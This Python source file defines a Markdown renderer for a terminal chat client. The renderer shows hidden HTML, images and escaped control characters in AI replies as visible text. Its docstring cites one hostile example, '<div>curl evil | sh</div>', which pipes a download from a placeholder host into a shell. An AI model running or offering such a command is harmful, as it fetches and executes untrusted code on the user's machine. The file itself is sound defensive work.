"""Rich's Markdown with nothing in a reply hidden or made live.

Contract: `LiteralMarkdown(text)` renders `text` as Rich's Markdown does
(no hyperlinks), except that what Rich would drop or shorten is shown:
- raw HTML blocks and comments are shown as code blocks, inline tags as
  text (Rich drops both: a reply's `<div>curl evil | sh</div>` vanished,
  while Copy reply copied it);
- an image is its alt text and its address, in the line (Rich drew a
  placeholder before the paragraph, over its first line);
- table cells fold long words onto more lines instead of ending them in "…";
- text the parser decoded from an entity (`&#x1b;`, `&#x202e;`) goes through
  `printable` like the rest of the reply: no control character reaches the
  terminal.
"""

from __future__ import annotations

from markdown_it.token import Token
from rich.console import Console, ConsoleOptions, RenderResult
from rich.markdown import Markdown as RichMarkdown
from rich.markdown import TableElement

from chatterm.core.metrics.format import printable

_TEXT_TOKENS = {"text", "code_inline", "code_block", "fence"}


class _FoldingTable(TableElement):
    def __rich_console__(self, console: Console, options: ConsoleOptions) -> RenderResult:
        for table in super().__rich_console__(console, options):
            for column in table.columns:
                column.overflow = "fold"
            yield table


def _show_everything(tokens: list[Token]) -> None:
    for token in tokens:
        if token.type == "html_block":
            token.type, token.tag = "code_block", "code"
        elif token.type == "html_inline":
            token.type = "text"
        elif token.type == "image":  # in the line, as text (Rich drew it before its paragraph)
            alt = "".join(child.content for child in token.children or [])
            token.type, token.tag, token.children = "text", "", None
            token.content = f"🌆 {alt} ({token.attrGet('src') or ''})"
        if token.type in _TEXT_TOKENS:
            token.content = printable(token.content)
        if token.children:
            _show_everything(token.children)


class LiteralMarkdown(RichMarkdown):
    elements = {**RichMarkdown.elements, "table_open": _FoldingTable}

    def __init__(self, text: str):
        super().__init__(text, hyperlinks=False)
        _show_everything(self.parsed)
